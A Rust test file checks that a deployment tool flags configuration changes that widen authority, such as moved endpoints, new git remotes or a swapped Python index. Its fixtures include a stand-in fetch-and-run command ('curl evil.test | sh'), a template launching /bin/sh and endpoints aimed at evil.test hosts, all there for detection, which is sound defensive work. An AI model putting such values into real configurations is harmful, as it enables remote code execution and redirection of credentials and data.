use std::path::PathBuf;

use super::*;
use crate::model::{Location, TemplateOverride};

/// The example repository, as the commit in force.
fn example() -> DesiredState {
    let repo = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("examples-repo");
    crate::model::load_repository(&repo).expect("the example loads")
}

fn envs() -> Vec<String> {
    vec!["outside".to_owned(), "inside".to_owned()]
}

fn outside(state: &mut DesiredState) -> &mut Environment {
    state.environments.get_mut("outside").expect("outside")
}

/// The paths `change` makes widening.
fn widened(change: impl FnOnce(&mut DesiredState)) -> Vec<String> {
    let old = example();
    let mut new = old.clone();
    change(&mut new);
    widenings(&old, &new, &envs()).into_iter().map(|w| w.path).collect()
}

macro_rules! authority {
    ($($name:ident: $change:expr => [$($path:expr),*];)+) => {$(
        #[test]
        fn $name() {
            let expected: Vec<String> = vec![$($path.to_owned()),*];
            assert_eq!(widened($change), expected);
        }
    )+};
}

authority! {
    nothing_changed: |_| {} => [];
    influxdb_to_another_host: |s| outside(s).influxdb_endpoint.url = "http://192.168.10.99:8086".into()
        => ["environments.outside.influxdb.url"];
    influxdb_to_another_port_of_the_same_host: |s| outside(s).influxdb_endpoint.url = "http://192.168.10.30:9999".into()
        => [];
    influxdb_to_another_scheme: |s| outside(s).influxdb_endpoint.url = "https://192.168.10.30:8086".into()
        => ["environments.outside.influxdb.url"];
    grafana_elsewhere: |s| {
        if let Some(g) = outside(s).grafana_endpoint.as_mut() { g.url = "http://evil.test:3000".into() }
    } => ["environments.outside.grafana.url"];
    keystone_elsewhere: |s| {
        for cloud in outside(s).monitored_clouds.values_mut() { cloud.auth_url = "https://iam.evil.test/v3".into() }
    } => ["environments.outside.monitored_clouds.production.auth_url"];
    a_new_monitored_cloud: |s| {
        let clouds = &mut outside(s).monitored_clouds;
        let mut cloud = clouds.values().next().cloned().expect("a cloud");
        cloud.auth_url = "https://iam.other.test/v3".into();
        clouds.insert("other".into(), cloud);
    } => ["environments.outside.monitored_clouds.other.auth_url"];
    the_daemon_follows_another_remote: |s| {
        if let Some(d) = outside(s).daemon.as_mut() { d.repository.url = "https://elsewhere.test/x.git".into() }
    } => ["environments.outside.daemon.repository.url"];
    the_daemon_moves_to_another_bastion: |s| {
        let hosts = &mut outside(s).sections.hosts;
        let first = hosts.iter().position(|h| h.role == crate::model::Role::Bastion).expect("a bastion");
        let mut other = hosts[first].clone();
        other.name = "outside-bastion-2".into();
        hosts.insert(first, other);
    } => ["environments.outside.daemon"];
    a_package_command: |s| {
        if let Some(ssh) = outside(s).ssh.as_mut() { ssh.package_install = "curl evil.test | sh {package}".into() }
    } => ["environments.outside.ssh.package_install"];
    a_release_pin: |s| s.apimon_binary = Some(crate::model::raw::ApimonBinary { url: "https://r.test/apimon".into(), sha256: "0".repeat(64), signature_url: None })
        => ["apimon_binary"];
    a_template_override: |s| {
        s.templates.insert("apimon-executor.service".into(), TemplateOverride { file: "templates/apimon-executor.service.hbs".into(), text: "[Service]\nExecStart=/bin/sh\n".into() });
    } => ["templates/apimon-executor.service"];
    an_index_url: |s| {
        if let Some(r) = s.runtime.as_mut() { r.index_url = Some("https://pypi.evil.test/simple".into()) }
    } => ["runtime.index_url"];
    an_interpreter: |s| {
        if let Some(r) = s.runtime.as_mut() { r.interpreter = "/tmp/python3".into() }
    } => ["runtime.interpreter"];
    an_apt_key: |s| {
        if let Some(r) = s.apt_repositories.first_mut() { r.key = std::sync::Arc::new(b"another key".to_vec()) }
    } => ["apt_repositories.influxdata"];
    a_sweeper_let_loose_on_the_platforms_project: |s| {
        outside(s).sweepers.insert("production".into(), crate::model::Sweeper {
            interval: std::time::Duration::from_secs(1200),
            age: std::time::Duration::from_secs(7200),
            whole_project: true,
            dry_run: false,
            platform_project: true,
        });
    } => ["environments.outside.monitored_clouds.production.sweeper.platform_project"];
    job_logs_made_public: |s| {
        outside(s).logs = Some(crate::model::Logs {
            cloud: "production".into(),
            container: "logs".into(),
            retention: std::time::Duration::from_secs(86_400),
            public: true,
            temp_url_key: None,
        });
    } => ["environments.outside.logs.public"];
    another_environment_of_the_daemon_counts_too: |s| {
        s.environments.get_mut("inside").expect("inside").influxdb_endpoint.url = "http://evil.test:8086".into()
    } => ["environments.inside.influxdb.url"];
}

#[test]
fn what_goes_back_or_is_removed_widens_nothing() {
    let mut old = example();
    old.templates.insert(
        "telegraf.conf".into(),
        TemplateOverride { file: "templates/telegraf.conf.hbs".into(), text: "x".into() },
    );
    old.apimon_binary = Some(crate::model::raw::ApimonBinary {
        url: "https://r.test/apimon".into(),
        sha256: "0".repeat(64),
        signature_url: None,
    });
    let mut new = old.clone();
    new.templates.clear();
    new.apimon_binary = None;
    assert!(widenings(&old, &new, &envs()).is_empty());
}

#[test]
fn only_the_daemons_environments_count() {
    let old = example();
    let mut new = old.clone();
    new.environments.get_mut("inside").expect("inside").influxdb_endpoint.url =
        "http://evil.test:8086".into();
    assert!(widenings(&old, &new, &["outside".to_owned()]).is_empty());
}

#[test]
fn a_secret_used_only_elsewhere_before_is_named() {
    let old = example();
    let mut new = old.clone();
    let theirs = old
        .secret_uses
        .iter()
        .find(|u| u.env.as_deref() == Some("inside"))
        .cloned()
        .expect("an inside secret");
    new.secret_uses.push(SecretUse {
        name: theirs.name.clone(),
        env: Some("outside".into()),
        location: Location::file("inventory/outside/influxdb.yaml"),
        path: "users[9].password".into(),
    });
    let found = widenings(&old, &new, &envs());
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].path, "inventory/outside/influxdb.yaml:users[9].password");
    assert!(found[0].change.starts_with(&format!("names secret `{}`", theirs.name)), "{found:#?}");
    // A brand-new secret is the operator's to provide: nothing to hold.
    let mut fresh = old.clone();
    fresh.secret_uses.push(SecretUse { name: "brand_new".into(), ..theirs });
    assert!(widenings(&old, &fresh, &envs()).is_empty());
}

#[test]
fn a_new_environment_brings_new_destinations() {
    let old = example();
    let mut new = old.clone();
    let mut third = new.environments["outside"].clone();
    third.name = "third".into();
    new.environments.insert("third".into(), third);
    let found = widenings(&old, &new, &["third".to_owned()]);
    assert!(
        found
            .iter()
            .any(|w| w.path == "environments.third.influxdb.url"
                && w.change.starts_with("new, http://")),
        "{found:#?}"
    );
}
